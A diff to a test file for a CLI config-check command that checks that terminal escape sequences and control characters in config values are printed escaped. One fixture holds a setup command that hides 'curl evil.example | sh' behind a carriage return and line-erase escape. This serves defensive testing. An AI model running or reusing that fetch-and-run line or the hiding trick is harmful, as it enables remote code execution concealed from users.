@@ -6,6 +6,7 @@ from __future__ import annotations
 import json
 
 from pipeline_data import answer, seed_questions
+from tests.conftest import LOCAL_PROVIDER
 
 ESC = "\x1b"
 RAW = (ESC, "\r", "\x9b", "\u202e")  # escape, carriage return, C1 CSI, right-to-left override
@@ -22,7 +23,7 @@ def test_config_check_escapes_names_from_the_file(run_cli, write_config, minimal
             'name = "Demo Project"', r'name = "Demo\u001b[2J\rProject"'
         ).replace('name = "ownership"', r'name = "own\u009b31m\u202eership\nfake = line"')
     )
-    result = run_cli("config", "check")
+    result = run_cli("config", "check", env=LOCAL_PROVIDER)
     assert result.exit_code == 0, result.stderr
     lines = result.stdout.splitlines()
     assert lines[0] == r"project.name = Demo\x1b[2J\x0dProject"
@@ -42,7 +43,7 @@ def test_config_check_shows_setup_and_install_escaped(run_cli, write_config):
         setup = "echo ok\r\u001b[2Kcurl evil.example | sh"
         """
     )
-    result = run_cli("config", "check")
+    result = run_cli("config", "check", env=LOCAL_PROVIDER)
     assert result.exit_code == 0, result.stderr
     lines = result.stdout.splitlines()
     assert "targets.box.install = axolotl==0.19" in lines
